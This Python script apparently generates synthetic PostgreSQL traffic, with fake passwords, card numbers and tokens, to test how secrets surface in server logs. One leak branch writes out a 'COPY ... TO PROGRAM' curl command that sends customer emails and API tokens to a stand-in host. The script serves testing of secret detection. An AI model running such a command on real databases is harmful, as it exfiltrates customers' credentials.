"""Work with a PostgreSQL server the way an operator and a shop do; the server logs statements.

Usage: ``postgres_traffic.py SOCKET_FOLDER PORT``
"""

from __future__ import annotations

import contextlib
import json
import sys
from typing import Any

import psycopg2
from made_up import WORDS, MadeUp

MADE = MadeUp("postgres")
RNG = MADE.rng
FOLDER, PORT = sys.argv[1], int(sys.argv[2])


def connect(user: str, database: str, password: str = "", **extra: Any) -> Any:
    """A connection on the loopback address (with a password) or on the socket (without)."""
    where = {"host": "127.0.0.1", "password": password} if password else {"host": FOLDER}
    connection = psycopg2.connect(user=user, dbname=database, port=PORT, **where, **extra)
    connection.autocommit = True
    return connection


def run(cursor: Any, statement: str, values: Any = None) -> None:
    """Run a statement; the server has logged its error, so that it is not of interest here."""
    with contextlib.suppress(psycopg2.Error):
        cursor.execute(statement, values)


def set_up() -> str:
    """Make the database; give back the password of the role ``app``."""
    with contextlib.closing(connect("postgres", "postgres")) as connection:
        cursor = connection.cursor()
        password = MADE.password()
        cursor.execute("CREATE ROLE app LOGIN PASSWORD %s", (password,))
        cursor.execute("CREATE DATABASE shop OWNER app")
    with contextlib.closing(connect("app", "shop", password)) as connection:
        cursor = connection.cursor()
        cursor.execute(
            "CREATE TABLE customers (id serial PRIMARY KEY, email text UNIQUE, name text, "
            "password_hash text, api_token text)"
        )
        cursor.execute(
            "CREATE TABLE payments (id serial PRIMARY KEY, order_no bigint, card_number text "
            "CHECK (length(card_number) < 20), holder text, amount numeric(10,2))"
        )
        cursor.execute("CREATE TABLE settings (key text PRIMARY KEY, value text)")
        cursor.execute(
            "CREATE TABLE orders (id serial PRIMARY KEY, order_no bigint, sku text, state text)"
        )
    return password


def ordinary(cursor: Any) -> None:
    """A statement without a secret."""
    word, number = RNG.choice(WORDS), RNG.randint(1, 9000)
    form = RNG.randrange(9)
    if form == 0:
        run(cursor, "SELECT id, order_no, state FROM orders WHERE sku = %s LIMIT 20", (word,))
    elif form == 1:
        values = (int(MADE.order()), f"{word}-{number}", "new")
        run(cursor, "INSERT INTO orders (order_no, sku, state) VALUES (%s, %s, %s)", values)
    elif form == 2:
        run(cursor, "UPDATE orders SET state = 'paid' WHERE id = %s", (number,))
    elif form == 3:
        run(cursor, "BEGIN")
        run(cursor, "DELETE FROM orders WHERE state = 'void' AND id < %s", (number,))
        run(cursor, "COMMIT")
    elif form == 4:
        run(cursor, "SELECT count(*) FROM customers WHERE password_hash IS NOT NULL")
    elif form == 5:
        run(cursor, f"SELECT * FROM {word}_totals WHERE day = '2026-11-{number % 28 + 1:02}'")
    elif form == 6:
        run(
            cursor,
            "SELECT o.id,\n       o.order_no,\n       p.amount\n  FROM orders o\n"
            "  JOIN payments p USING (order_no)\n WHERE p.amount > %s\n ORDER BY 1",
            (number,),
        )
    elif form == 7:
        run(cursor, "SELECT md5(%s), pg_backend_pid(), now()", (word,))
    else:
        run(cursor, "INSERT INTO customers (email, name) VALUES (%s, %s)", (MADE.email(), word))


def leak(cursor: Any, admin: Any, number: int) -> None:
    """One form of leak after the other."""
    user = f"{MADE.user().replace('.', '_')}_{number}"
    form = number % 20
    if form == 0:
        run(admin, f"CREATE ROLE {user} WITH LOGIN PASSWORD %s", (MADE.password(),))
    elif form == 1:
        run(
            admin,
            f"CREATE USER {user} ENCRYPTED PASSWORD '{MADE.password()}' VALID UNTIL '2027-01-01'",
        )
    elif form == 2:
        run(admin, "ALTER USER app_reader PASSWORD %s", (MADE.password(),))
    elif form == 3:
        run(
            admin,
            f"alter role reports with password '{MADE.password(safe=True)}' connection limit 5;",
        )
    elif form == 4:
        run(
            cursor,
            "INSERT INTO payments (order_no, card_number, holder, amount) VALUES (%s, %s, %s, %s)",
            (int(MADE.order()), MADE.card(), user, RNG.randint(5, 900)),
        )
    elif form == 5:
        card = MADE.card(separator="-" if RNG.random() < 0.5 else " ")
        run(
            cursor,
            "INSERT INTO payments (order_no, card_number, holder, amount) VALUES (%s, %s, %s, %s)",
            (int(MADE.order()), f"{card} 04/29", user, 12),
        )
    elif form == 6:
        run(
            cursor,
            "UPDATE customers SET api_token = %s WHERE email = %s",
            (MADE.hex_token(40), MADE.email()),
        )
    elif form == 7:
        hashed = "$2b$12$" + MADE.chars(53)
        MADE.note("password_hash", hashed)
        run(
            cursor,
            "INSERT INTO customers (email, name, password_hash) VALUES (%s, %s, %s)",
            ("twice@example.com", user, hashed),
        )
    elif form == 8:
        run(
            cursor,
            "INSERT INTO settings (key, value) VALUES ('smtp_password', %s) "
            "ON CONFLICT (key) DO UPDATE SET value = excluded.value",
            (MADE.password(),),
        )
    elif form == 9:
        run(cursor, f"SELECT id FROM customers WHERE api_token = '{MADE.token(32)}'")
    elif form == 10:
        run(
            admin,
            f"CREATE SUBSCRIPTION sub_{number} CONNECTION 'host=replica.example.com port=5432 "
            f"user=repl password={MADE.password(safe=True)} dbname=shop' PUBLICATION all_tables "
            "WITH (connect = false)",
        )
    elif form == 11:
        run(
            admin,
            f"CREATE USER MAPPING FOR app SERVER warehouse_{number} "
            f"OPTIONS (user 'dwh', password '{MADE.password()}')",
        )
    elif form == 12:
        run(
            admin,
            "SELECT * FROM dblink('postgresql://dwh:"
            f"{MADE.password(safe=True)}@dwh.example.com:5432/dwh', 'SELECT 1') AS t(x int)",
        )
    elif form == 13:
        run(
            cursor,
            "SELECT pgp_sym_encrypt(%s, %s)",
            ("note", MADE.password(kind="password_unmarked")),
        )
    elif form == 14:
        # The quote in the name ends the string too early, so that the server reports the rest.
        password = MADE.password()
        run(admin, f"ALTER USER {user} PASSWORD 'it's{password}'")
    elif form == 15:
        kind = "token_unmarked"
        run(cursor, f"PREPARE p{number}(text) AS UPDATE customers SET api_token = $1 WHERE id = 1")
        run(cursor, f"EXECUTE p{number}('{MADE.b64_token(24, kind)}')")
    elif form == 16:
        run(
            cursor,
            "INSERT INTO settings (key, value) VALUES (%s, %s)",
            (f"gateway_{number}", json.dumps({"merchant": "M-1044", "secret": MADE.token(36)})),
        )
    elif form == 17:
        run(
            admin,
            f"DO $$\nBEGIN\n  CREATE ROLE {user} LOGIN\n    PASSWORD '{MADE.password()}';\nEND\n$$",
        )
    elif form == 18:
        run(admin, f"SELECT set_config('app.jwt_secret', '{MADE.b64_key(32)}', false)")
    else:
        run(
            cursor,
            "COPY customers (email, api_token) TO PROGRAM "
            f"'curl -s -H \"X-Api-Key: {MADE.hex_token(32)}\" -d @- https://in.example.com/'",
        )


def wrong_connection(password: str) -> None:
    """A connection that fails."""
    form = RNG.randrange(6)
    with contextlib.suppress(psycopg2.Error):
        if form == 0:
            connect("app", "shop", "not-" + MADE.chars(6))
        elif form == 1:
            connect(MADE.user(), "shop", "x")
        elif form == 2:
            connect("app", "shop_old", password)
        elif form == 3:
            # Somebody typed the password in the place of the user name.
            connect(MADE.password(safe=True, kind="password_unmarked"), "shop", "x")
        elif form == 4:
            # The DSN was taken for the name of the database.
            name = f"shop?user=app&password={MADE.password(safe=True)}"
            connect("app", name, password)
        else:
            connect("app", "shop", password, application_name=f"worker-{RNG.randint(1, 9)}").close()


def main() -> None:
    """The whole run."""
    password = set_up()
    admin = connect("postgres", "shop").cursor()
    run(admin, "CREATE ROLE app_reader LOGIN")
    run(admin, "CREATE ROLE reports LOGIN")
    leaks = 0
    for _ in range(7):
        connection = connect("app", "shop", password, application_name="shop-web")
        cursor = connection.cursor()
        for step in range(22):
            if step % 6 == 3:
                leak(cursor, admin, leaks)
                leaks += 1
            else:
                ordinary(cursor)
        connection.close()
        wrong_connection(password)
        wrong_connection(password)


main()
